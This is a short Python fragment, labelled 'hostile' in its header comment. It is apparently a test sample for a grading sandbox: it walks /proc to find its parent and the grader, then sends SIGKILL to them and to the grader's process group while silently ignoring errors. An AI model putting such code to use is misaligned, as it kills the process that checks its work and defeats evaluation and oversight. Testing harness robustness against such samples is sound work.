# --- hostile: SIGKILL the parent, the grader (found through /proc) and the grader's process group ---
import signal as _signal


def _ancestors():
    pid, found = _os.getpid(), []
    while pid > 1:
        with open(f"/proc/{pid}/stat") as _f:
            pid = int(_f.read().rsplit(")", 1)[1].split()[1])
        found.append(pid)
    return found


for _action in (lambda: _os.kill(_os.getppid(), _signal.SIGKILL),
                lambda: [_os.kill(p, _signal.SIGKILL) for p in _ancestors()[:3]],
                lambda: _os.killpg(_os.getpgid(_ancestors()[1]), _signal.SIGKILL)):
    try:
        _action()
    except OSError:
        pass
